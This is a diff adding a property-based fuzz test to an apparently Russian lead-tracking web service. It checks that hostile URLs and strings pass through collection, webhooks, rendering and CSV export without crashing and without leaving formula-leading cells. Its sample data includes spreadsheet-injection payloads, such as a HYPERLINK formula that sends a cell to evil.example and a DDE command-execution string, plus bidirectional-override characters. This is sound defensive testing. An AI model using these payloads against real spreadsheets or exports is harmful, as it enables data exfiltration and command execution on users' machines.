@@ -12,8 +12,11 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import csv
 import hashlib
 import hmac
+import io
+import itertools
 import json
 import os
 import signal
@@ -24,7 +27,8 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
-from urllib.parse import parse_qsl, urlencode
+from urllib.parse import parse_qsl, quote, urlencode
+from zoneinfo import ZoneInfo
 
 import pytest
 import requests
@@ -33,8 +37,12 @@ from hypothesis import strategies as st
 from hypothesis.control import currently_in_test_context
 from twilio.request_validator import RequestValidator
 
+from bot.alerts import plain_alert, render_alert
+from reports.card import DialogCard
+from reports.render import render_card
 from tests.conftest import TWILIO_TOKEN, free_port
-from tracking.codes import check_character, format_prefill
+from tracking.codes import check_character, format_prefill, new_code
+from tracking.models import Dialog
 
 ROOT = Path(__file__).resolve().parent.parent
 TIMEOUT = 10.0  # seconds: any request taking longer counts as a hang
@@ -664,9 +672,9 @@ extra_fields = st.dictionaries(st.text(min_size=1, max_size=15), json_values, ma
     code=st.sampled_from(CODES),
     visitor=st.sampled_from(["visitor-0001", "v" * 64, "abc_DEF-123"]),
     fields=st.fixed_dictionaries(
-        {"u": st.text(max_size=2048)},
+        {"u": urls},  # URLs are checked (mostly well-formed ones here, so the fuzz reaches the store)
         optional={
-            "r": st.text(max_size=2048),
+            "r": urls | st.just(""),
             "l": st.text(max_size=128),
             "z": st.text(max_size=128),
             "h": st.sampled_from(["79991234567", "@shop"]) | st.text(max_size=128),
@@ -683,6 +691,149 @@ def test_collect_well_formed(
     body = json.dumps(payload, ensure_ascii=False).encode()
     response = server.request("POST", "/collect", body=body, headers={"Content-Type": "text/plain"})
     check_answer(response, f"collect {payload}")
+
+
+# hostile URLs and strings through /collect to a dialog, its card, its lead alert and the CSV export ------
+
+hostile_text = st.one_of(
+    st.text(max_size=40),
+    st.text(st.characters(codec="utf-8"), max_size=40),
+    st.sampled_from(
+        [
+            '=HYPERLINK("http://evil.example/?"&A1,"x")',
+            "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0",
+            "+79161234567",
+            "\t=1+2",
+            "\r=1+2",
+            "\u202eevil\u2066",
+            "a\u200bb",
+            "a\nb",
+            "\x00",
+            "<b>&amp;</b>",
+            "%",
+            "%zz",
+            "[",
+            "]:",
+            "#",
+            "?",
+            "@",
+            "\\",
+            "x" * 3000,
+        ]
+    ),
+)
+hostile_hosts = often(
+    ["studio.example", "STUDIO.example", "[2001:db8::1]:8080", "студия.рф", "127.0.0.1:8080"],
+    st.sampled_from(
+        [
+            "[::1]",
+            "[",
+            "[::1",
+            "[v1.x]",
+            "[127.0.0.1]",
+            "user:pass@studio.example",
+            "studio.example:99999",
+            "studio.example:0",
+            "studio.example:-1",
+            "a" * 300,
+            "",
+        ]
+    )
+    | hostile_text,
+)
+UTM_KEYS = ["utm_source", "utm_medium", "utm_campaign", "utm_content", "utm_term", "gclid", "yclid", "from"]
+
+
+@st.composite
+def hostile_urls(draw: st.DrawFn) -> str:
+    """URL-shaped strings: a scheme, a host and a path, each well-formed or not, and UTM tags whose values
+    are formulas, markup and control characters, written raw or percent-encoded."""
+    other_schemes = st.sampled_from(["android-app", "javascript", "file", ""]) | hostile_text
+    scheme = draw(often(["https", "http", "HTTP"], other_schemes))
+    separator = draw(often(["://"], st.sampled_from([":", ":///", "//"])))
+    tags = draw(st.lists(st.tuples(st.sampled_from(UTM_KEYS), hostile_text), max_size=4))
+    encode = draw(st.booleans())
+    query = urlencode(tags) if encode else "&".join(f"{key}={value}" for key, value in tags)
+    path = draw(hostile_text)
+    return f"{scheme}{separator}{draw(hostile_hosts)}/{quote(path) if encode else path}" + (
+        "?" + query if query else ""
+    )
+
+
+contacts_seen = itertools.count()
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@reaches_the_store("/collect")
+@FUZZ
+@given(
+    page=hostile_urls() | urls,
+    referrer=st.none() | hostile_urls() | urls,
+    click_page=hostile_urls() | urls,
+    language=hostile_text,
+    zone=hostile_text,
+    name=hostile_text,
+    text=hostile_text,
+)
+def test_hostile_urls_and_strings_from_collect_render_everywhere(
+    server: Server,
+    page: str,
+    referrer: str | None,
+    click_page: str,
+    language: str,
+    zone: str,
+    name: str,
+    text: str,
+) -> None:
+    """Whatever /collect accepts is a visit that a lead's dialog, its card, its alert and the CSV export
+    all render; whatever it refuses is a 4xx with a reason. Never a 5xx."""
+    code, visitor = new_code(), "visitor-hostile-01"
+    view = {"t": "view", "c": code, "v": visitor, "u": page, "r": referrer, "l": language, "z": zone}
+    view["ft"] = {"u": page, "r": referrer}
+    headers = {"Content-Type": "text/plain"}
+    answer = server.request("POST", "/collect", body=json.dumps(view, ensure_ascii=False).encode(), headers=headers)
+    check_answer(answer, f"collect view {view}")
+    assert answer.status_code in (200, 400, 413, 429), answer.status_code
+    if answer.status_code != 200:
+        return
+    click = {"t": "click", "c": code, "v": visitor, "u": click_page, "h": "79991234567"}
+    clicked = server.request("POST", "/collect", body=json.dumps(click, ensure_ascii=False).encode(), headers=headers)
+    check_answer(clicked, f"collect click {click}")
+    assert clicked.status_code in (200, 400, 413, 429), clicked.status_code
+
+    # A lead writes with this visit's code: the dialog takes the visit's attribution.
+    posted = {
+        "message_id": f"hostile-{code}",
+        "business_number": "+7 999 123-45-67",
+        "contact_phone": f"+7916{next(contacts_seen):07d}",
+        "contact_name": name.strip()[:256] or "—",
+        "text": format_prefill(text[:500], code, "код"),
+    }
+    body = json.dumps(posted, ensure_ascii=False).encode()
+    signed = {"Content-Type": "application/json", "X-Chattrack-Signature": hub_signature(body, GENERIC_SECRET)}
+    message = server.request("POST", "/webhooks/generic", body=body, headers=signed)
+    check_answer(message, f"generic {posted}")
+    assert message.status_code == 200 and message.json()["status"] == "exact", message.text[:300]
+    dialog_id = message.json()["dialog"]
+
+    auth = {"Authorization": f"Bearer {API_TOKEN}"}
+    card = server.request("GET", f"/api/dialogs/{dialog_id}", headers=auth)
+    check_answer(card, f"card of {dialog_id}")
+    assert card.status_code == 200
+    dialog = Dialog.model_validate(card.json()["dialog"])
+    assert dialog.attribution.landing_page == page  # kept exactly as the browser sent it
+    for lang in ("ru", "en"):  # the renderers the bot uses for the lead alert and the card
+        assert render_alert(dialog, lang)
+        assert plain_alert(dialog, lang)
+        assert render_card(DialogCard(dialog, [], ZoneInfo("Europe/Moscow")), lang)
+
+    export = server.request("GET", "/api/dialogs.csv?period=today", headers=auth)
+    check_answer(export, "dialogs.csv")
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"), newline="")))
+    (row,) = [row for row in rows if row["id"] == dialog_id]
+    assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)], row
 
 
 @reaches_the_store("/webhooks/twilio")
